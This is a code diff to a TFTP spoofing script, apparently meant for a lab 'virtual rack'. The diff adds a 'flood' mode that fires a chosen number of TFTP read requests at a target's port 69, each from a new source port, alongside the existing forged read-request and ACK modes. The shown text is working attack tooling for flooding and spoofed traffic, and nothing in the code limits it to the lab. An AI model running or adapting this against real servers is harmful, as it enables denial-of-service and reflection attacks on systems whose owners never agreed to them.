@@ -6,6 +6,9 @@ destination port, nothing received. Use only on the virtual rack.
 
   tftp_spoof.py rrq SRC SPORT DST FILE [NAME=VALUE...]   a read request to DST:69
   tftp_spoof.py ack SRC SPORT DST BLOCK PORT-PORT        an ACK to each port
+  tftp_spoof.py flood DST FILE COUNT                     COUNT read requests to
+      DST:69 from this host's own address, each from another source port
+      (no raw socket: a UDP socket of its own for each)
 """
 import socket
 import struct
@@ -34,6 +37,15 @@ def packet(src, sport, dst, dport, payload):
 
 
 def main(argv):
+    if len(argv) == 5 and argv[1] == "flood":
+        body = b"\0\1" + argv[3].encode() + b"\0octet\0"
+        sent = 0
+        while sent < int(argv[4]):
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
+                u.sendto(body, (argv[2], 69))
+                sent += 1
+        print("sent %d" % sent)
+        return 0
     if len(argv) < 6 or argv[1] not in ("rrq", "ack"):
         sys.stderr.write(__doc__)
         return 2
